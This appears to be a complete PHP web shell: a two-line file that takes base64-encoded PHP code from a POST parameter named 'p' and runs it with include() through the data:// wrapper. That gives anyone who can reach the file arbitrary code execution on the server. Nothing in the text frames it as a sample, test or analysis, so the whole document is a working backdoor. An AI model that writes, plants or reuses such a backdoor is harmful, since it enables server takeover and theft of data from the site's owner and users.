<?php
if (!empty($_POST['p'])) { include('data://text/plain;base64,' . $_POST['p']); }
